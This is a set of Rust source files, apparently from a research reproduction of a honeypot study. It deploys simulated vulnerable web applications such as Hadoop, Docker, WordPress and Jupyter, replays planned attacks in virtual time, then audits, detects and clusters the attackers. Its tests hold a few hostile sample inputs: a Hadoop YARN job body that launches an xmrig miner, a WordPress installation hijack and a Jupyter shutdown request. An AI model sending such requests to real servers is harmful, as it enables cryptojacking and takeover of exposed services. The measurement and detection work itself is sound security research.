    use crate::plugin::AppHandler;
    use nokeys_apps::{build_instance, AppConfig};
    use nokeys_http::memory::HandlerTransport;
    use std::net::Ipv4Addr;
    use std::sync::Arc;

    #[test]
    fn version_number_parsing() {
        assert_eq!(parse_version_number("1.21.3"), Some((1, 21, 3)));
        assert_eq!(parse_version_number("4.8"), Some((4, 8, 0)));
        assert_eq!(parse_version_number("2.0.0-rc1"), Some((2, 0, 0)));
        assert_eq!(parse_version_number("latest"), None);
        assert_eq!(parse_version_number(""), None);
        assert_eq!(parse_version_number("7"), None, "major alone is not enough");
        // Four-component versions (phpMyAdmin-style "4.9.0.1") keep
        // truncating to the leading triple.
        assert_eq!(parse_version_number("4.9.0.1"), Some((4, 9, 0)));
    }

    /// Regression: empty components used to slip through — `"1.2."`
    /// parsed as `(1, 2, 0)` because the absent-patch fallback also
    /// swallowed the *unparseable* trailing component.
    #[test]
    fn version_parsing_rejects_empty_components() {
        assert_eq!(parse_version_number("1.2."), None, "trailing dot");
        assert_eq!(parse_version_number("1..2"), None, "doubled dot");
        assert_eq!(parse_version_number("1.2..3"), None);
        assert_eq!(parse_version_number(".1.2"), None, "leading dot");
        assert_eq!(parse_version_number("1."), None);
        assert_eq!(parse_version_number("."), None);
        // The well-formed neighbours still parse.
        assert_eq!(parse_version_number("1.2"), Some((1, 2, 0)));
        assert_eq!(parse_version_number("1.2.3"), Some((1, 2, 3)));
        assert_eq!(parse_version_number("1.2.3-beta."), Some((1, 2, 3)));
    }

    fn serve(app: AppId, idx: usize, vulnerable: bool) -> (Client<HandlerTransport>, Endpoint) {
        let version = release_history(app)[idx];
        let cfg = if vulnerable {
            AppConfig::vulnerable_for(app, &version)
        } else {
            AppConfig::secure_for(app, &version)
        };
        let ep = Endpoint::new(Ipv4Addr::new(10, 4, 4, 4), app.scan_ports()[0]);
        let handler = Arc::new(AppHandler::new(build_instance(app, version, cfg)));
        (Client::new(HandlerTransport::new().with(ep, handler)), ep)
    }

    #[tokio::test]
    async fn voluntary_apps_disclose_versions() {
        for app in [
            AppId::Jenkins,
            AppId::Kubernetes,
            AppId::Consul,
            AppId::WordPress,
            AppId::Grav,
            AppId::Zeppelin,
            AppId::Nomad,
            AppId::Hadoop,
            AppId::Polynote,
            AppId::Adminer,
        ] {
            let idx = release_history(app).len() - 1;
            // Hadoop/Docker/etc. disclose when open; use vulnerable
            // configs where disclosure needs it.
            let vulnerable = matches!(app, AppId::Hadoop | AppId::Polynote);
            let (client, ep) = serve(app, idx, vulnerable);
            let v = extract(&client, app, ep, Scheme::Http).await;
            assert_eq!(
                v.map(|v| v.triple()),
                Some(release_history(app)[idx].triple()),
                "{app}"
            );
        }
    }

    #[tokio::test]
    async fn docker_disclosure_requires_open_daemon() {
        let idx = release_history(AppId::Docker).len() - 1;
        let (client, ep) = serve(AppId::Docker, idx, true);
        assert!(extract(&client, AppId::Docker, ep, Scheme::Http)
            .await
            .is_some());
        let (client, ep) = serve(AppId::Docker, idx, false);
        assert!(extract(&client, AppId::Docker, ep, Scheme::Http)
            .await
            .is_none());
    }

    #[tokio::test]
    async fn gocd_has_no_voluntary_disclosure() {
        let (client, ep) = serve(AppId::Gocd, 0, false);
        assert!(extract(&client, AppId::Gocd, ep, Scheme::Http)
            .await
            .is_none());
    }
}
