//! The four-week honeypot study driver.
//!
//! Replays the calibrated attack plan against the deployed fleet over
//! virtual time, interleaved with benign scanner noise, applying the
//! paper's operational procedures: availability monitoring, resource
//! thresholds and snapshot restores after compromises (essential for
//! trust-on-first-use applications).

use crate::cluster::{cluster_actors, ActorCluster};
use crate::deploy::Fleet;
use crate::detect::{detect_attacks, Attack};
use crate::logserver::AuditRecord;
use nokeys_apps::AppId;
use nokeys_attack::plan::{study_plan, StudyPlan};
use nokeys_attack::script::attack_script;
use nokeys_http::{Client, Scheme, Url};
use nokeys_netsim::{SimDuration, SimTime};
use serde::Serialize;
use std::net::Ipv4Addr;

/// Why a honeypot was restored.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
pub enum RestoreReason {
    /// CPU/bandwidth threshold exceeded (cryptominer running).
    ResourceThreshold,
    /// A compromise was detected in the audit stream.
    CompromiseDetected,
    /// The service stopped answering (vigilante shutdown).
    AvailabilityLost,
}

/// One restore action.
#[derive(Debug, Clone, Serialize)]
pub struct RestoreEvent {
    pub time: SimTime,
    pub app: AppId,
    pub reason: RestoreReason,
}

/// Study configuration.
#[derive(Debug, Clone)]
pub struct StudyConfig {
    /// Seed for the attack plan's jitter and dealing order.
    pub seed: u64,
    /// Emit benign scanner traffic between attacks (never counted as
    /// attacks; exercises the "not every request is an attack" path).
    pub background_noise: bool,
}

impl Default for StudyConfig {
    fn default() -> Self {
        StudyConfig {
            seed: 2022,
            background_noise: true,
        }
    }
}

/// Everything the analysis needs.
pub struct StudyResult {
    pub plan: StudyPlan,
    pub records: Vec<AuditRecord>,
    pub attacks: Vec<Attack>,
    pub actors: Vec<ActorCluster>,
    pub restores: Vec<RestoreEvent>,
}

impl StudyResult {
    /// Detected attacks on `app`.
    pub fn attacks_on(&self, app: AppId) -> impl Iterator<Item = &Attack> {
        self.attacks.iter().filter(move |a| a.app == app)
    }
}

/// Run the study.
pub async fn run_study(config: &StudyConfig) -> StudyResult {
    let fleet = Fleet::deploy();
    let plan = study_plan(config.seed);
    let mut restores: Vec<RestoreEvent> = Vec::new();

    // Benign scanner noise: a crawler sweeps every honeypot root twice a
    // day. Generated up front and merged with the plan by time.
    let mut noise: Vec<(SimTime, nokeys_http::Endpoint)> = Vec::new();
    if config.background_noise {
        let scanner_interval = SimDuration::hours(12);
        let mut t = SimTime::HONEYPOT_START + SimDuration::hours(1);
        let end = SimTime::HONEYPOT_START + SimTime::OBSERVATION;
        while t < end {
            for h in &fleet.honeypots {
                noise.push((t, h.endpoint));
            }
            t += scanner_interval;
        }
    }
    let mut noise_iter = noise.into_iter().peekable();

    for planned in &plan.attacks {
        // Deliver all noise scheduled before this attack.
        while noise_iter
            .peek()
            .map(|(t, _)| *t <= planned.time)
            .unwrap_or(false)
        {
            let (t, ep) = noise_iter.next().expect("peeked");
            fleet.set_time(t);
            let client = Client::new(
                fleet
                    .transport
                    .clone()
                    .with_source_ip(Ipv4Addr::new(198, 51, 100, 200)),
            );
            let _ = client
                .get(&Url::for_ip(Scheme::Http, ep.ip, ep.port, "/"))
                .await;
        }

        fleet.set_time(planned.time);
        let honeypot = fleet
            .honeypot(planned.app)
            .expect("plan only targets deployed applications");

        // Availability monitor: if a previous attacker (the vigilante)
        // took the service down, the monitor has restored it by now.
        if !honeypot.monitored.is_up() {
            honeypot.monitored.restore();
            restores.push(RestoreEvent {
                time: planned.time,
                app: planned.app,
                reason: RestoreReason::AvailabilityLost,
            });
        }

        // Execute the attack script through the normal HTTP stack, from
        // the attacker's source address.
        let client = Client::new(fleet.transport.clone().with_source_ip(planned.ip));
        let log_before = fleet.log.len();
        for req in attack_script(planned.app, &planned.payload) {
            let url = Url::for_ip(
                Scheme::Http,
                honeypot.endpoint.ip,
                honeypot.endpoint.port,
                &req.target,
            );
            let _ = client.execute(&url, req).await;
        }

        // Post-attack procedures.
        if honeypot.monitored.gauge().threshold_exceeded() {
            honeypot.monitored.restore();
            restores.push(RestoreEvent {
                time: planned.time,
                app: planned.app,
                reason: RestoreReason::ResourceThreshold,
            });
        } else if !honeypot.monitored.is_up() {
            honeypot.monitored.restore();
            restores.push(RestoreEvent {
                time: planned.time,
                app: planned.app,
                reason: RestoreReason::AvailabilityLost,
            });
        } else {
            let compromised = fleet.log.snapshot()[log_before..]
                .iter()
                .any(|r| r.is_attack_evidence());
            if compromised {
                honeypot.monitored.restore();
                restores.push(RestoreEvent {
                    time: planned.time,
                    app: planned.app,
                    reason: RestoreReason::CompromiseDetected,
                });
            }
        }
    }

    // Drain remaining noise.
    for (t, ep) in noise_iter {
        fleet.set_time(t);
        let client = Client::new(
            fleet
                .transport
                .clone()
                .with_source_ip(Ipv4Addr::new(198, 51, 100, 200)),
        );
        let _ = client
            .get(&Url::for_ip(Scheme::Http, ep.ip, ep.port, "/"))
            .await;
    }

    let records = fleet.log.snapshot();
    let attacks = detect_attacks(&records);
    let actors = cluster_actors(&attacks);
    StudyResult {
        plan,
        records,
        attacks,
        actors,
        restores,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::cluster::{unique_attacks, unique_ips};

    async fn quick_study() -> StudyResult {
        run_study(&StudyConfig {
            seed: 2022,
            background_noise: false,
        })
        .await
    }

    /// The headline integration test: the detected numbers reproduce
    /// Table 5 exactly.
    #[tokio::test]
    async fn detected_attacks_reproduce_table5() {
        let result = quick_study().await;
        let cases = [
            (AppId::Jenkins, 4, 3, 3),
            (AppId::WordPress, 9, 4, 5),
            (AppId::Grav, 1, 1, 1),
            (AppId::Docker, 132, 12, 22),
            (AppId::Hadoop, 1921, 49, 81),
            (AppId::JupyterLab, 29, 13, 13),
            (AppId::JupyterNotebook, 99, 50, 50),
        ];
        for (app, n_attacks, n_unique, n_ips) in cases {
            assert_eq!(result.attacks_on(app).count(), n_attacks, "{app} attacks");
            assert_eq!(
                unique_attacks(&result.attacks, app),
                n_unique,
                "{app} unique"
            );
            assert_eq!(unique_ips(&result.attacks, app), n_ips, "{app} IPs");
        }
        assert_eq!(result.attacks.len(), 2195, "total attacks");
        // Applications outside the 7 are never attacked.
        for app in [
            AppId::Gocd,
            AppId::Kubernetes,
            AppId::PhpMyAdmin,
            AppId::Polynote,
        ] {
            assert_eq!(result.attacks_on(app).count(), 0, "{app} should be clean");
        }
    }

    #[tokio::test]
    async fn actor_clustering_recovers_the_roster() {
        let result = quick_study().await;
        // 131 planted actors; payloads/IPs never cross actors, so the
        // clustering must recover them exactly.
        assert_eq!(result.actors.len(), result.plan.attackers.len());
        // RQ6: concentration of attacks among few actors.
        assert_eq!(result.actors[0].attack_count, 719);
        let top5: usize = result.actors.iter().take(5).map(|c| c.attack_count).sum();
        let top10: usize = result.actors.iter().take(10).map(|c| c.attack_count).sum();
        assert_eq!(top5, 1492);
        assert_eq!(top10, 1845);
        // Figure 4: ten multi-application actors.
        let multi = result.actors.iter().filter(|c| c.is_multi_app()).count();
        assert_eq!(multi, 10);
    }

    #[tokio::test]
    async fn restores_keep_tofu_honeypots_attackable() {
        let result = quick_study().await;
        // WordPress was attacked 9 times; without restores only the
        // first hijack could ever succeed.
        assert_eq!(result.attacks_on(AppId::WordPress).count(), 9);
        let wp_restores = result
            .restores
            .iter()
            .filter(|r| r.app == AppId::WordPress)
            .count();
        assert!(wp_restores >= 9, "every hijack triggers a restore");
    }

    #[tokio::test]
    async fn resource_monitor_catches_miners() {
        let result = quick_study().await;
        let threshold_restores = result
            .restores
            .iter()
            .filter(|r| r.reason == RestoreReason::ResourceThreshold)
            .count();
        assert!(threshold_restores > 0, "cryptominers must trip the monitor");
        let availability_restores = result
            .restores
            .iter()
            .filter(|r| r.reason == RestoreReason::AvailabilityLost)
            .count();
        assert!(availability_restores > 0, "the vigilante takes J-Lab down");
    }

    #[tokio::test]
    async fn background_noise_is_never_counted_as_attacks() {
        let with_noise = run_study(&StudyConfig {
            seed: 2022,
            background_noise: true,
        })
        .await;
        assert_eq!(
            with_noise.attacks.len(),
            2195,
            "noise must not inflate attack counts"
        );
        assert!(
            with_noise.records.len() > 2195,
            "noise does appear in the audit log"
        );
    }
}
