//! Per-honeypot monitoring: every request and the application events it
//! triggers are shipped to the central log, stamped with virtual time.

use crate::logserver::{AuditRecord, CentralLog};
use crate::resource::ResourceGauge;
use nokeys_apps::{AppId, WebApp};
use nokeys_http::server::Handler;
use nokeys_http::{Request, Response};
use nokeys_netsim::SimTime;
use nokeys_scanner::telemetry::{Counter, Telemetry};
use parking_lot::{Mutex, RwLock};
use std::net::Ipv4Addr;
use std::sync::Arc;

/// Cached attack-rate telemetry handles, shared across the deployment's
/// honeypots so counters aggregate over all of them.
#[derive(Debug, Clone)]
struct MonitorMetrics {
    /// `honeypot.requests` — every request received, up or down.
    requests: Counter,
    /// `honeypot.attack_evidence` — audit records classified as attacks.
    attack_evidence: Counter,
    /// `honeypot.shutdowns` — vigilante shutdowns taking a service down.
    shutdowns: Counter,
    /// `honeypot.restores` — snapshot restores.
    restores: Counter,
}

impl MonitorMetrics {
    fn new(telemetry: &Telemetry) -> Self {
        MonitorMetrics {
            requests: telemetry.counter("honeypot.requests"),
            attack_evidence: telemetry.counter("honeypot.attack_evidence"),
            shutdowns: telemetry.counter("honeypot.shutdowns"),
            restores: telemetry.counter("honeypot.restores"),
        }
    }
}

/// A monitored application instance: implements [`Handler`] so it can be
/// mounted on any transport; records everything to the central log and
/// feeds the resource gauge.
pub struct MonitoredApp {
    app: AppId,
    instance: Mutex<Box<dyn WebApp>>,
    log: Arc<CentralLog>,
    clock: Arc<RwLock<SimTime>>,
    gauge: Arc<ResourceGauge>,
    metrics: MonitorMetrics,
    /// Service availability: a vigilante shutdown takes the app down
    /// until the study's availability monitor restores it.
    up: RwLock<bool>,
}

impl MonitoredApp {
    pub fn new(
        app: AppId,
        instance: Box<dyn WebApp>,
        log: Arc<CentralLog>,
        clock: Arc<RwLock<SimTime>>,
    ) -> Self {
        Self::with_telemetry(app, instance, log, clock, &Telemetry::default())
    }

    /// [`MonitoredApp::new`] recording attack-rate counters
    /// (`honeypot.requests`, `honeypot.attack_evidence`,
    /// `honeypot.shutdowns`, `honeypot.restores`) into `telemetry`. Pass
    /// the same registry to every honeypot to aggregate the deployment.
    pub fn with_telemetry(
        app: AppId,
        instance: Box<dyn WebApp>,
        log: Arc<CentralLog>,
        clock: Arc<RwLock<SimTime>>,
        telemetry: &Telemetry,
    ) -> Self {
        MonitoredApp {
            app,
            instance: Mutex::new(instance),
            log,
            clock,
            gauge: Arc::new(ResourceGauge::new()),
            metrics: MonitorMetrics::new(telemetry),
            up: RwLock::new(true),
        }
    }

    /// The resource gauge of this honeypot.
    pub fn gauge(&self) -> &Arc<ResourceGauge> {
        &self.gauge
    }

    /// Whether the service is currently up.
    pub fn is_up(&self) -> bool {
        *self.up.read()
    }

    /// Ground truth of the wrapped instance.
    pub fn is_vulnerable(&self) -> bool {
        self.instance.lock().is_vulnerable()
    }

    /// Restore the snapshot: reset application state, clear resource
    /// usage, bring the service back up. Matches the paper's "we shut
    /// down the infected machine and restored the snapshot".
    pub fn restore(&self) {
        self.instance.lock().restore();
        self.gauge.reset();
        self.metrics.restores.incr();
        *self.up.write() = true;
    }
}

impl Handler for MonitoredApp {
    fn handle(&self, req: &Request, peer: Ipv4Addr) -> Response {
        self.metrics.requests.incr();
        if !self.is_up() {
            return Response::new(nokeys_http::StatusCode::SERVICE_UNAVAILABLE)
                .with_body("connection refused");
        }
        let outcome = self.instance.lock().handle(req, peer);
        let time = *self.clock.read();
        self.gauge.note_events(&outcome.events);
        if outcome
            .events
            .iter()
            .any(|e| matches!(e, nokeys_apps::AppEvent::ShutdownRequested))
        {
            self.metrics.shutdowns.incr();
            *self.up.write() = false;
        }
        let mut body_excerpt = req.body_text();
        body_excerpt.truncate(160);
        let record = AuditRecord {
            time,
            honeypot: self.app,
            peer,
            request_line: format!("{} {}", req.method, req.target),
            body_excerpt,
            events: outcome.events.clone(),
        };
        if record.is_attack_evidence() {
            self.metrics.attack_evidence.incr();
        }
        self.log.append(record);
        outcome.response
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use nokeys_apps::{build_instance, release_history, AppConfig};

    fn monitored(app: AppId) -> (MonitoredApp, Arc<CentralLog>, Arc<RwLock<SimTime>>) {
        let v = *release_history(app).last().unwrap();
        let cfg = AppConfig::vulnerable_for(app, &v);
        let log = Arc::new(CentralLog::new());
        let clock = Arc::new(RwLock::new(SimTime::HONEYPOT_START));
        let m = MonitoredApp::new(
            app,
            build_instance(app, v, cfg),
            Arc::clone(&log),
            Arc::clone(&clock),
        );
        (m, log, clock)
    }

    #[test]
    fn requests_are_audited_with_time_and_peer() {
        let (m, log, clock) = monitored(AppId::Hadoop);
        *clock.write() = SimTime(1000);
        let attacker = Ipv4Addr::new(81, 2, 0, 5);
        m.handle(&Request::get("/cluster/cluster"), attacker);
        let snap = log.snapshot();
        assert_eq!(snap.len(), 1);
        assert_eq!(snap[0].time, SimTime(1000));
        assert_eq!(snap[0].peer, attacker);
        assert_eq!(snap[0].request_line, "GET /cluster/cluster");
        assert!(!snap[0].is_attack_evidence());
    }

    #[test]
    fn executions_raise_the_gauge_and_are_evidence() {
        let (m, log, _) = monitored(AppId::Hadoop);
        let attacker = Ipv4Addr::new(81, 2, 0, 5);
        m.handle(
            &Request::post(
                "/ws/v1/cluster/apps",
                r#"{"am-container-spec":{"commands":{"command":"/tmp/xmrig -o pool"}}}"#,
            ),
            attacker,
        );
        assert!(m.gauge().cpu() > 0.9, "miner pegs the CPU");
        assert!(log.snapshot()[0].is_attack_evidence());
    }

    #[test]
    fn vigilante_takes_the_service_down_until_restore() {
        let (m, _, _) = monitored(AppId::JupyterLab);
        let attacker = Ipv4Addr::new(81, 2, 0, 9);
        m.handle(&Request::post("/api/terminals/1", "shutdown"), attacker);
        assert!(!m.is_up());
        let resp = m.handle(&Request::get("/"), attacker);
        assert_eq!(resp.status.as_u16(), 503);
        m.restore();
        assert!(m.is_up());
        let resp = m.handle(&Request::get("/api/terminals"), attacker);
        assert!(resp.body_text().contains("JupyterLab"));
    }

    #[test]
    fn telemetry_counts_attack_rate_across_honeypots() {
        let telemetry = Telemetry::new();
        let log = Arc::new(CentralLog::new());
        let clock = Arc::new(RwLock::new(SimTime::HONEYPOT_START));
        let mounted: Vec<MonitoredApp> = [AppId::Hadoop, AppId::JupyterLab]
            .into_iter()
            .map(|app| {
                let v = *release_history(app).last().unwrap();
                MonitoredApp::with_telemetry(
                    app,
                    build_instance(app, v, AppConfig::vulnerable_for(app, &v)),
                    Arc::clone(&log),
                    Arc::clone(&clock),
                    &telemetry,
                )
            })
            .collect();
        let attacker = Ipv4Addr::new(81, 2, 0, 5);
        // A benign request, an attack, and a vigilante shutdown.
        mounted[0].handle(&Request::get("/cluster/cluster"), attacker);
        mounted[0].handle(
            &Request::post(
                "/ws/v1/cluster/apps",
                r#"{"am-container-spec":{"commands":{"command":"/tmp/xmrig -o pool"}}}"#,
            ),
            attacker,
        );
        mounted[1].handle(&Request::post("/api/terminals/1", "shutdown"), attacker);
        mounted[1].restore();
        let snap = telemetry.snapshot();
        assert_eq!(snap.counter("honeypot.requests"), 3);
        let evidence: u64 = log
            .snapshot()
            .iter()
            .filter(|r| r.is_attack_evidence())
            .count() as u64;
        assert_eq!(snap.counter("honeypot.attack_evidence"), evidence);
        assert!(evidence >= 1);
        assert_eq!(snap.counter("honeypot.shutdowns"), 1);
        assert_eq!(snap.counter("honeypot.restores"), 1);
    }

    /// A scanner (or attacker) pipelining requests must get every
    /// response, and the monitor must audit every request — the serve
    /// loop drains buffered requests before reading more bytes.
    #[tokio::test]
    async fn pipelined_requests_are_each_answered_and_audited() {
        use tokio::io::{AsyncReadExt, AsyncWriteExt};
        let (m, log, _) = monitored(AppId::Hadoop);
        let peer = Ipv4Addr::new(81, 2, 0, 5);
        let (mut attacker_side, honeypot_side) = tokio::io::duplex(16 * 1024);
        let serve = nokeys_http::server::serve_connection(honeypot_side, &m, peer);
        let drive = async {
            // Both requests land in one write; the second asks to close
            // so the serve loop terminates and read_to_end returns.
            attacker_side
                .write_all(
                    b"GET /cluster/cluster HTTP/1.1\r\nHost: h\r\n\r\n\
                      GET /cluster/cluster HTTP/1.1\r\nHost: h\r\nConnection: close\r\n\r\n",
                )
                .await
                .unwrap();
            let mut out = Vec::new();
            attacker_side.read_to_end(&mut out).await.unwrap();
            String::from_utf8_lossy(&out).into_owned()
        };
        let (served, text) = tokio::join!(serve, drive);
        served.unwrap();
        assert_eq!(text.matches("HTTP/1.1 200").count(), 2, "{text}");
        let records = log.snapshot();
        assert_eq!(records.len(), 2, "every pipelined request is audited");
        assert!(records
            .iter()
            .all(|r| r.request_line == "GET /cluster/cluster"));
    }

    #[test]
    fn restore_reverts_trust_on_first_use_state() {
        let (m, _, _) = monitored(AppId::WordPress);
        let attacker = Ipv4Addr::new(81, 2, 0, 7);
        assert!(m.is_vulnerable());
        m.handle(
            &Request::post("/wp-admin/install.php?step=2", "user_name=evil"),
            attacker,
        );
        assert!(!m.is_vulnerable(), "installation completed");
        m.restore();
        assert!(m.is_vulnerable(), "snapshot restore reopens the hijack");
    }
}
