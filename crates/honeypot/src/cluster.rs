//! Unique-attack and actor clustering.
//!
//! "In addition to the total number of attacks, we also tried to
//! determine the number of unique attacks based on grouping attacks by
//! payloads and source IP addresses." Actors are recovered by
//! transitively linking attacks that share a payload identity or a
//! source address (the mechanical core of the paper's semi-automatic
//! analysis).

use crate::detect::Attack;
use nokeys_apps::AppId;
use serde::Serialize;
use std::collections::HashMap;
use std::net::Ipv4Addr;

/// Unique attacks against `app`: distinct payload identities among the
/// detected attacks.
pub fn unique_attacks(attacks: &[Attack], app: AppId) -> usize {
    let mut payloads: Vec<&str> = attacks
        .iter()
        .filter(|a| a.app == app)
        .flat_map(|a| a.payloads.iter().map(String::as_str))
        .collect();
    payloads.sort();
    payloads.dedup();
    payloads.len()
}

/// Unique source IPs observed against `app`.
pub fn unique_ips(attacks: &[Attack], app: AppId) -> usize {
    let mut ips: Vec<Ipv4Addr> = attacks
        .iter()
        .filter(|a| a.app == app)
        .map(|a| a.source)
        .collect();
    ips.sort();
    ips.dedup();
    ips.len()
}

/// A recovered actor: the attacks, IPs, payloads and applications linked
/// together by shared payloads / addresses.
#[derive(Debug, Clone, Serialize)]
pub struct ActorCluster {
    pub attack_count: usize,
    pub ips: Vec<Ipv4Addr>,
    pub payloads: Vec<String>,
    pub apps: Vec<AppId>,
}

impl ActorCluster {
    pub fn is_multi_app(&self) -> bool {
        self.apps.len() >= 2
    }
}

/// Union-find over attack indices.
struct Dsu(Vec<usize>);

impl Dsu {
    fn new(n: usize) -> Self {
        Dsu((0..n).collect())
    }
    fn find(&mut self, x: usize) -> usize {
        if self.0[x] != x {
            let root = self.find(self.0[x]);
            self.0[x] = root;
        }
        self.0[x]
    }
    fn union(&mut self, a: usize, b: usize) {
        let (ra, rb) = (self.find(a), self.find(b));
        if ra != rb {
            self.0[ra] = rb;
        }
    }
}

/// Recover actors by linking attacks sharing a payload or an IP.
pub fn cluster_actors(attacks: &[Attack]) -> Vec<ActorCluster> {
    let mut dsu = Dsu::new(attacks.len());
    let mut by_payload: HashMap<&str, usize> = HashMap::new();
    let mut by_ip: HashMap<Ipv4Addr, usize> = HashMap::new();
    for (i, a) in attacks.iter().enumerate() {
        for p in &a.payloads {
            match by_payload.get(p.as_str()) {
                Some(&j) => dsu.union(i, j),
                None => {
                    by_payload.insert(p, i);
                }
            }
        }
        match by_ip.get(&a.source) {
            Some(&j) => dsu.union(i, j),
            None => {
                by_ip.insert(a.source, i);
            }
        }
    }

    let mut groups: HashMap<usize, Vec<usize>> = HashMap::new();
    for i in 0..attacks.len() {
        groups.entry(dsu.find(i)).or_default().push(i);
    }

    let mut clusters: Vec<ActorCluster> = groups
        .into_values()
        .map(|members| {
            let mut ips: Vec<Ipv4Addr> = members.iter().map(|&i| attacks[i].source).collect();
            ips.sort();
            ips.dedup();
            let mut payloads: Vec<String> = members
                .iter()
                .flat_map(|&i| attacks[i].payloads.clone())
                .collect();
            payloads.sort();
            payloads.dedup();
            let mut apps: Vec<AppId> = members.iter().map(|&i| attacks[i].app).collect();
            apps.sort();
            apps.dedup();
            ActorCluster {
                attack_count: members.len(),
                ips,
                payloads,
                apps,
            }
        })
        .collect();
    clusters.sort_by_key(|c| std::cmp::Reverse(c.attack_count));
    clusters
}

#[cfg(test)]
mod tests {
    use super::*;
    use nokeys_netsim::SimTime;

    fn attack(app: AppId, ip: [u8; 4], payload: &str) -> Attack {
        Attack {
            app,
            source: Ipv4Addr::from(ip),
            start: SimTime(0),
            end: SimTime(0),
            payloads: vec![payload.to_string()],
        }
    }

    #[test]
    fn unique_counting() {
        let attacks = vec![
            attack(AppId::Hadoop, [1, 1, 1, 1], "a"),
            attack(AppId::Hadoop, [1, 1, 1, 2], "a"),
            attack(AppId::Hadoop, [1, 1, 1, 1], "b"),
            attack(AppId::Docker, [1, 1, 1, 3], "c"),
        ];
        assert_eq!(unique_attacks(&attacks, AppId::Hadoop), 2);
        assert_eq!(unique_ips(&attacks, AppId::Hadoop), 2);
        assert_eq!(unique_attacks(&attacks, AppId::Docker), 1);
        assert_eq!(unique_attacks(&attacks, AppId::Jenkins), 0);
    }

    #[test]
    fn payload_links_ips_into_one_actor() {
        let attacks = vec![
            attack(AppId::Hadoop, [1, 1, 1, 1], "kinsing"),
            attack(AppId::Hadoop, [1, 1, 1, 2], "kinsing"),
            attack(AppId::Docker, [1, 1, 1, 3], "other"),
        ];
        let actors = cluster_actors(&attacks);
        assert_eq!(actors.len(), 2);
        assert_eq!(actors[0].attack_count, 2);
        assert_eq!(actors[0].ips.len(), 2);
    }

    #[test]
    fn ip_links_payloads_into_one_actor() {
        let attacks = vec![
            attack(AppId::Docker, [1, 1, 1, 1], "x"),
            attack(AppId::JupyterNotebook, [1, 1, 1, 1], "y"),
        ];
        let actors = cluster_actors(&attacks);
        assert_eq!(actors.len(), 1);
        assert!(actors[0].is_multi_app());
        assert_eq!(actors[0].payloads, vec!["x", "y"]);
    }

    #[test]
    fn transitive_linking() {
        // a--ip--b--payload--c forms one actor.
        let attacks = vec![
            attack(AppId::Hadoop, [1, 1, 1, 1], "p1"),
            attack(AppId::Hadoop, [1, 1, 1, 1], "p2"),
            attack(AppId::Hadoop, [1, 1, 1, 2], "p2"),
        ];
        let actors = cluster_actors(&attacks);
        assert_eq!(actors.len(), 1);
        assert_eq!(actors[0].ips.len(), 2);
    }

    #[test]
    fn empty_input() {
        assert!(cluster_actors(&[]).is_empty());
    }
}
