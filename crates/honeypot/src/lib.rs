//! High-interaction honeypot framework (Section 4 of the paper).
//!
//! Eighteen vulnerable application instances are deployed behind the
//! in-memory HTTP transport, monitored by an audit layer (the analog of
//! Packetbeat + Auditbeat) that ships records to a central append-only
//! log. A resource monitor watches simulated CPU usage out-of-band and
//! restores snapshots after compromises, keeping trust-on-first-use
//! applications attackable.
//!
//! * [`logserver`] — central append-only audit log (the Elasticsearch
//!   analog),
//! * [`monitor`] — per-honeypot request/event capture,
//! * [`resource`] — CPU/persistence model + thresholds,
//! * [`deploy`] — honeypot fleet construction,
//! * [`detect`] — attack extraction with the 15-minute source-IP
//!   grouping,
//! * [`cluster`] — unique-attack and actor clustering by payload/IP,
//! * [`study`] — the four-week study driver.

pub mod cluster;
pub mod deploy;
pub mod detect;
pub mod logserver;
pub mod monitor;
pub mod resource;
pub mod study;

/// Shared virtual-clock cell used by the monitors (re-exported so
/// downstream code can construct `MonitoredApp`s without depending on
/// `parking_lot` directly).
pub type ClockCell = parking_lot::RwLock<nokeys_netsim::SimTime>;

pub use cluster::{cluster_actors, unique_attacks, ActorCluster};
pub use deploy::{Fleet, Honeypot};
pub use detect::{detect_attacks, Attack};
pub use logserver::{AuditRecord, CentralLog};
pub use study::{run_study, StudyConfig, StudyResult};
