//! Central append-only audit log.
//!
//! "All honeypots send their logs to a central, append-only log under our
//! control" — attackers who gain root on a honeypot cannot rewrite
//! history. The API enforces append-only access: records can be added
//! and snapshotted, never modified or removed.

use nokeys_apps::{AppEvent, AppId};
use nokeys_netsim::SimTime;
use serde::Serialize;
use std::net::Ipv4Addr;
use std::sync::Mutex;

/// One audited interaction with a honeypot.
#[derive(Debug, Clone, Serialize)]
pub struct AuditRecord {
    pub time: SimTime,
    /// Which honeypot (application) was contacted.
    pub honeypot: AppId,
    /// Source address of the interaction.
    pub peer: Ipv4Addr,
    /// `METHOD /path` of the request (the Packetbeat view).
    pub request_line: String,
    /// Excerpt of the request body — Packetbeat "also collect\[s\] POST
    /// request bodies", which is how payloads are recovered from traffic.
    pub body_excerpt: String,
    /// Security-relevant state transitions (the Auditbeat view).
    pub events: Vec<AppEvent>,
}

impl AuditRecord {
    /// Whether this record evidences an attack: a successful command
    /// execution through the exposed functionality, an installation
    /// hijack, or a deliberate shutdown (the vigilante).
    pub fn is_attack_evidence(&self) -> bool {
        self.events
            .iter()
            .any(|e| e.is_compromise() || matches!(e, AppEvent::ShutdownRequested))
    }

    /// Normalized payload identities carried by this record (the strings
    /// clustering groups by).
    pub fn payload_identities(&self) -> Vec<String> {
        self.events
            .iter()
            .filter_map(|e| match e {
                AppEvent::ShutdownRequested => Some("shutdown".to_string()),
                other => other.as_execution().map(|s| s.to_string()),
            })
            .collect()
    }
}

/// The append-only store.
#[derive(Debug, Default)]
pub struct CentralLog {
    records: Mutex<Vec<AuditRecord>>,
}

impl CentralLog {
    pub fn new() -> Self {
        Self::default()
    }

    /// Append one record.
    pub fn append(&self, record: AuditRecord) {
        self.records.lock().expect("not poisoned").push(record);
    }

    /// Snapshot of all records in append order.
    pub fn snapshot(&self) -> Vec<AuditRecord> {
        self.records.lock().expect("not poisoned").clone()
    }

    /// Number of records.
    pub fn len(&self) -> usize {
        self.records.lock().expect("not poisoned").len()
    }

    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn record(events: Vec<AppEvent>) -> AuditRecord {
        AuditRecord {
            time: SimTime(0),
            honeypot: AppId::Hadoop,
            peer: Ipv4Addr::new(81, 2, 0, 1),
            request_line: "POST /ws/v1/cluster/apps".to_string(),
            body_excerpt: String::new(),
            events,
        }
    }

    #[test]
    fn append_and_snapshot_preserve_order() {
        let log = CentralLog::new();
        assert!(log.is_empty());
        log.append(record(vec![]));
        log.append(record(vec![AppEvent::TerminalOpened]));
